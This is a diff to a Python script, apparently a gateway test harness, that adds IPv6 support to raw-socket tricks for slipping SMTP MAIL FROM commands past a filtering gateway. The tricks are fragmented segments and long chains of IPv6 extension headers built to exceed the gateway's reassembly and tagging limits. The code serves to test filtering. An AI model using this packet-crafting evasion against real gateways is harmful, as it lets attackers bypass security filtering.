@@ -1,5 +1,6 @@
 #!/usr/bin/env python3
-"""wire_attack.py MODE SERVER FROM [MSGID]: an SMTP client (IPv4) that sends
+"""wire_attack.py MODE SERVER FROM [MSGID]: an SMTP client (IPv4 or IPv6, as
+SERVER is) that sends
 MAIL FROM:<FROM> to SERVER through the gateway while playing one of the
 on-path tricks of issue 17 on its own connection, then prints the reply
 to MAIL FROM ("CODE TEXT", "closed" or "timeout") and, if that was 250,
@@ -34,13 +35,17 @@ MODE:
           with a one-byte hole before it (17 out-of-order islands, one
           more than the gateway's reassembly keeps), then the whole line:
           the server reads the line once
-  frag    MAIL FROM:<FROM> in one TCP segment carried in two IPv4
+  frag    MAIL FROM:<FROM> in one TCP segment carried in two IPv4 or IPv6
           fragments (the first with the TCP header and 4 bytes), then,
           after FRAG_WAIT seconds (default 1), the same line at the same
           sequence number from the socket (a retransmission to a server
           that reassembled the fragments); prints the reply to the
           fragments, "timeout" when none came before the socket's copy,
-          then the reply to the line
+          then the reply to the line (RESEND=0: not the line; what the
+          server read came from the fragments alone)
+  ext     (IPv6) MAIL FROM:<FROM> in one TCP segment behind EXT (default
+          7) Destination Options headers, one more than the gateway's
+          tagger follows (Linux follows any number), then as frag
 
 The crafted segments are sent on a raw socket (IP_HDRINCL) from this
 namespace, with the connection's sequence and acknowledgement numbers read
@@ -67,10 +72,21 @@ def csum(data):
     return ~s & 0xFFFF
 
 
+def is_v6(addr):
+    return ":" in addr
+
+
+def addr_bytes(addr):
+    return socket.inet_pton(socket.AF_INET6 if is_v6(addr) else socket.AF_INET, addr)
+
+
 def tcp_segment(src, sport, dst, dport, seq, ack, flags, payload, bad_sum=False):
     """The TCP header and payload, with its checksum (wrong if bad_sum)."""
     tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 502, 0, 0) + payload
-    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
+    if is_v6(src):
+        pseudo = addr_bytes(src) + addr_bytes(dst) + struct.pack("!IxxxB", len(tcp), 6)
+    else:
+        pseudo = addr_bytes(src) + addr_bytes(dst) + struct.pack("!BBH", 0, 6, len(tcp))
     s = csum(pseudo + tcp)
     if bad_sum:
         s ^= 0x5A5A
@@ -83,18 +99,41 @@ def ip_header(src, dst, length, ident=0x1234, frag=0x4000):
                        socket.inet_aton(src), socket.inet_aton(dst))
 
 
+def ip6_header(src, dst, length, next_header):
+    """An IPv6 header; length is what follows it."""
+    return struct.pack("!IHBB16s16s", 0x60000000, length, next_header, 64, addr_bytes(src),
+                       addr_bytes(dst))
+
+
 def segment(src, sport, dst, dport, seq, ack, flags, payload, bad_sum=False):
     tcp = tcp_segment(src, sport, dst, dport, seq, ack, flags, payload, bad_sum)
+    if is_v6(src):
+        return ip6_header(src, dst, len(tcp), 6) + tcp
     return ip_header(src, dst, len(tcp)) + tcp
 
 
 def fragments(src, sport, dst, dport, seq, ack, payload, first=24):
-    """One TCP segment as two IPv4 fragments: the first `first` bytes
-    (a multiple of 8) with More Fragments, then the rest at that offset."""
+    """One TCP segment as two IPv4 or IPv6 fragments: the first `first`
+    bytes (a multiple of 8) with More Fragments, then the rest at that
+    offset."""
     tcp = tcp_segment(src, sport, dst, dport, seq, ack, 0x18, payload)
+    if is_v6(src):
+        ident = 0x40000000 | sport
+        return [ip6_header(src, dst, 8 + first, 44) + struct.pack("!BBHI", 6, 0, 1, ident) +
+                tcp[:first],
+                ip6_header(src, dst, 8 + len(tcp) - first, 44) +
+                struct.pack("!BBHI", 6, 0, (first // 8) << 3, ident) + tcp[first:]]
     ident = 0x4000 | (sport & 0x3FFF)
     return [ip_header(src, dst, first, ident, 0x2000) + tcp[:first],
             ip_header(src, dst, len(tcp) - first, ident, first // 8) + tcp[first:]]
+
+
+def ext_chain(src, sport, dst, dport, seq, ack, payload, n):
+    """One TCP segment behind n IPv6 Destination Options headers, each 8
+    bytes holding one PadN option."""
+    tcp = tcp_segment(src, sport, dst, dport, seq, ack, 0x18, payload)
+    hdrs = b"".join(struct.pack("!BBBB4x", 60 if i < n - 1 else 6, 0, 1, 4) for i in range(n))
+    return ip6_header(src, dst, len(hdrs) + len(tcp), 60 if n else 6) + hdrs + tcp
 
 
 class Tap:
@@ -114,18 +153,26 @@ class Tap:
                 frame, addr = self.s.recvfrom(65536)
             except BlockingIOError:
                 return
-            if len(frame) < 14 + 40 or frame[12:14] != b"\x08\x00":
-                continue
             ip = frame[14:]
-            ihl = (ip[0] & 15) * 4
-            if ip[9] != 6 or ip[12:16] != socket.inet_aton(local) or \
-                    ip[16:20] != socket.inet_aton(remote):
+            if frame[12:14] == b"\x08\x00" and len(ip) >= 40:
+                ihl = (ip[0] & 15) * 4
+                if ip[9] != 6 or ip[12:16] != addr_bytes(local) or \
+                        ip[16:20] != addr_bytes(remote):
+                    continue
+                length = struct.unpack("!H", ip[2:4])[0] - ihl
+            elif frame[12:14] == b"\x86\xdd" and len(ip) >= 60:
+                ihl = 40  # our own segments: no extension header
+                if ip[6] != 6 or ip[8:24] != addr_bytes(local) or \
+                        ip[24:40] != addr_bytes(remote):
+                    continue
+                length = struct.unpack("!H", ip[4:6])[0]
+            else:
                 continue
             tcp = ip[ihl:]
             sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", tcp[:14])
             if sport != lport:
                 continue
-            plen = struct.unpack("!H", ip[2:4])[0] - ihl - (off >> 4) * 4
+            plen = length - (off >> 4) * 4
             end = (seq + plen + (1 if flags & 0x03 else 0)) & 0xFFFFFFFF
             if self.next_seq is None or ((end - self.next_seq) & 0xFFFFFFFF) < 0x80000000:
                 self.next_seq = end
@@ -165,7 +212,9 @@ def main():
     tap = Tap(os.environ.get("IFACE", "eth0"))
     s, f, _ = connect(server, 15)
     local, lport = s.getsockname()[:2]
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    # IPPROTO_RAW: the header is ours (IP_HDRINCL; implied for IPv6 too)
+    raw = socket.socket(socket.AF_INET6 if is_v6(server) else socket.AF_INET, socket.SOCK_RAW,
+                        socket.IPPROTO_RAW)
     reply(f)
     s.sendall(b"EHLO in.world.test\r\n")
     reply(f)
@@ -221,14 +270,25 @@ def attack(mode, s, f, raw, tap, local, lport, server, sender, mail):
             time.sleep(0.01)
         time.sleep(0.3)
         s.sendall(mail)
-    elif mode == "frag":
-        for frag in fragments(local, lport, server, 25, tap.next_seq, tap.ack, mail):
-            raw.sendto(frag, (server, 0))
+    elif mode in ("frag", "ext"):
+        if mode == "frag":
+            packets = fragments(local, lport, server, 25, tap.next_seq, tap.ack, mail)
+        elif is_v6(server):
+            packets = [ext_chain(local, lport, server, 25, tap.next_seq, tap.ack, mail,
+                                 int(os.environ.get("EXT", "7")))]
+        else:
+            print("ext needs an IPv6 server")
+            return 2
+        for packet in packets:
+            raw.sendto(packet, (server, 0))
         # (a timed-out read would end the file object: select instead)
         if select.select([s], [], [], float(os.environ.get("FRAG_WAIT", "1")))[0]:
             print(reply(f))
         else:
             print("timeout")
+        if os.environ.get("RESEND") == "0":  # what the server read came from them alone
+            s.close()
+            return 0
         s.sendall(mail)
     elif mode == "quitsum":
         raw.sendto(segment(local, lport, server, 25, tap.next_seq, tap.ack, 0x18, b"QUIT\r\n",
